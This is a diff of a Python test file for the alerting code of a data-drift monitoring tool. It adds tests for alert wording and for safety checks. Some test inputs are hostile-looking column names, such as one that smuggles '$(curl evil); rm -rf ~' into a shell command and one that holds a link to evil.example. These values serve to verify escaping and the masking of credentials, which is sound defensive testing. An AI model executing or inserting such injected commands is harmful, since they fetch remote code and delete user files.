@@ -1,15 +1,15 @@
-"""What people are told: when, in which words, and never twice for one cause."""
+"""What people are told, and in which words."""
 
 from __future__ import annotations
 
-from pathlib import Path
+import shlex
 from typing import Any
 
 import pytest
 
-from backbeat.alerts import Alert, Told, alert_of
-from backbeat.data import FolderStore
+from backbeat.alerts import alert_of
 from backbeat.identity import Actor, RunIdentity
+from backbeat.reference import DataRef
 from backbeat.step import Blocked, Done
 
 MONITOR = "monitors/parcels"
@@ -62,10 +62,59 @@ def test_muted_columns_are_no_alert() -> None:
     assert alert(Done(value={"verdict": "drifted", "columns": ["a"], "alarms": []})) is None
 
 
-def test_performance_and_quality_have_alerts_too() -> None:
-    """A worse model, and data that breaks its expectations, blocked or only reported."""
-    worse = Done(value={"verdict": "drifted", "worse": ["roc_auc"], "reason": "it fell to 0.6"})
-    assert "it fell to 0.6" in alert(worse, kind="drift.performance/v1").text
+def test_a_batch_that_is_broken_as_a_whole_says_how() -> None:
+    """Half the rows are no column's fault, and no column can be muted for it."""
+    found = alert(
+        Done(
+            value={"verdict": "broken", "alarms": [], "severity": "high", "cause": "c"},
+            evidence={"decision": {"findings": [{"sentence": "it has 40 rows, usually 900"}]}},
+        )
+    )
+    assert found.title == "Broken data in nightly.drift, 2024-05-01: the whole batch"
+    assert "- the whole batch: it has 40 rows, usually 900" in found.text
+    assert "mute" not in found.text
+
+
+def test_it_says_since_when_and_what_follows() -> None:
+    """Three nights in a row are another thing than one, and a retraining is under way or not."""
+    columns = [{"name": "a", "reason": "it moved", "streak": 3}]
+    value = {"verdict": "drifted", "alarms": ["a"], "cause": "c"}
+    follows = {"action": "hold", "action_reason": "one was started on 2024-04-30"}
+    done = Done(value=value | follows, evidence={"decision": {"columns": columns}})
+    assert "- a: it moved (3 batches in a row)" in alert(done).text
+    assert "Retraining: hold, one was started on 2024-04-30" in alert(done).text
+
+
+def test_it_knows_what_the_batch_was_held_against() -> None:
+    """The digest of the profile, so that another champion's drift is another one."""
+    inputs = (
+        DataRef(uri="landing/1.parquet", digest="sha256:1"),
+        DataRef(uri="p.json", digest="sha256:2", format="json"),
+    )
+    value = {"verdict": "drifted", "alarms": ["a"], "reference": "p.json"}
+    assert alert(Done(value=value, inputs=inputs)).reference == "sha256:2"
+
+
+def test_a_worse_model_is_named() -> None:
+    """With its metrics and slices, and that an estimate is one."""
+    value = {
+        "verdict": "drifted",
+        "model": "Parcels",
+        "worse": ["roc_auc"],
+        "slices": ["origin=JFK"],
+        "reason": "it fell to 0.6",
+    }
+    found = alert(Done(value=value), kind="drift.performance/v1")
+    assert found.title.startswith("Worse performance of Parcels in nightly.drift")
+    assert found.columns == ("roc_auc", "origin=JFK")
+    assert "it fell to 0.6" in found.text
+    assert "mute" not in found.text
+    guessed = alert(Done(value={**value, "estimated": True}), kind="drift.performance/v1")
+    assert guessed.title.startswith("Worse estimated performance of Parcels")
+
+
+def test_data_that_breaks_its_expectations_is_told() -> None:
+    """Whether it blocked the night or was only reported; a mute would not help."""
     failure = {
         "type": "expect_column_values_to_not_be_null",
         "column": "x",
@@ -81,6 +130,7 @@ def test_performance_and_quality_have_alerts_too() -> None:
         found = alert(outcome, kind="quality.check/v1")
         assert (found.verdict, found.severity, found.columns) == ("failed", "critical", ("x",))
         assert "- x is never null: Unexpected: 3 of 10." in found.text
+        assert "mute" not in found.text
     assert alert(Done(value={"success": True}), kind="quality.check/v1") is None
 
 
@@ -94,79 +144,42 @@ def test_a_columns_name_obeys_nobody() -> None:
     assert len(found.columns[0]) <= 80
 
 
+def test_a_columns_name_is_no_link() -> None:
+    """Slack makes a link of every address, and shows what is behind it."""
+    found = alert(drift("http://evil.example/x"))
+    assert "://" not in found.title
+    assert "http://evil" not in found.text
+
+
+@pytest.mark.parametrize(
+    ("name", "word"),
+    [
+        ("distance_km", "distance_km"),
+        ("distance km", "distance km"),
+        ("$(curl evil); rm -rf ~", "$(curl evil); rm -rf ~"),
+        ("it's", "it's"),
+        ("`id`", "COLUMN"),
+        ("--help", "COLUMN"),
+        ("a" * 300, "COLUMN"),
+    ],
+)
+def test_the_command_to_mute_can_be_pasted(name: str, word: str) -> None:
+    """A name is one word of it and runs nothing; one that cannot be shown is left to the person."""
+    command = alert(drift(name)).text.splitlines()[-1].removeprefix("To mute: ")
+    assert shlex.split(command)[:5] == ["backbeat", "drift", "mute", MONITOR, word]
+
+
+def test_a_reports_address_shows_no_secret() -> None:
+    """Neither in the text nor as a field."""
+    found = alert_of(
+        "drift.check/v1", drift("a"), identity=IDENTITY, report="https://ana:pw@host/r.html"
+    )
+    assert found is not None
+    assert found.report == "https://***@host/r.html"
+    assert ":pw@" not in found.text
+
+
 def test_many_columns_are_counted() -> None:
     """Five are named."""
     found = alert(drift(*(f"c{number}" for number in range(9))))
     assert found.title.endswith("c0, c1, c2, c3, c4 and 4 more")
-
-
-class Channel:
-    """People, and what they were told."""
-
-    def __init__(self, folder: Path) -> None:
-        self.heard: list[str] = []
-        self.told = Told(FolderStore(folder), MONITOR, "drift.check/v1")
-
-    def night(self, day: int, *columns: str, deaf: bool = False) -> None:
-        """One night's check."""
-        partition = f"2024-05-{day:02}"
-        found: Alert | None = alert(drift(*columns), partition) if columns else None
-        news = found is not None and self.told.is_news(found)
-        if news and not deaf:
-            self.heard.append(f"{day}:{','.join(columns)}")
-        self.told.note(partition, found, told=news and not deaf)
-
-
-@pytest.fixture
-def channel(tmp_path: Path) -> Channel:
-    """A channel with nothing told yet."""
-    return Channel(tmp_path)
-
-
-def test_the_same_cause_is_told_once(channel: Channel) -> None:
-    """Six nights of one cause are one message; in a week they are heard of it again."""
-    for day in range(1, 8):
-        channel.night(day, "a")
-    assert channel.heard == ["1:a"]
-    channel.night(8, "a")
-    assert channel.heard == ["1:a", "8:a"]
-
-
-def test_another_cause_is_news(channel: Channel) -> None:
-    """Also while the first one goes on."""
-    channel.night(1, "a")
-    channel.night(2, "a", "b")
-    channel.night(3, "a", "b")
-    assert channel.heard == ["1:a", "2:a,b"]
-
-
-def test_what_was_gone_and_comes_back_is_news(channel: Channel) -> None:
-    """A quiet night in between ends it."""
-    channel.night(1, "a")
-    channel.night(2)
-    channel.night(3, "a")
-    assert channel.heard == ["1:a", "3:a"]
-
-
-def test_a_retry_tells_nobody_again(channel: Channel) -> None:
-    """Nor does a clear, nor a backfill of an older night."""
-    channel.night(5, "a")
-    channel.night(5, "a")
-    channel.night(3, "a")
-    assert channel.heard == ["5:a"]
-
-
-def test_who_could_not_be_told_is_told_by_the_next_night(channel: Channel) -> None:
-    """A channel that is down loses no cause."""
-    channel.night(1, "a", deaf=True)
-    channel.night(2, "a")
-    assert channel.heard == ["2:a"]
-
-
-def test_a_damaged_note_tells_again(channel: Channel, tmp_path: Path) -> None:
-    """Better twice than never."""
-    channel.night(1, "a")
-    for file in (tmp_path / MONITOR / "alerts" / "drift.check").iterdir():
-        file.write_bytes(b"{half")
-    channel.night(2, "a")
-    assert channel.heard == ["1:a", "2:a"]
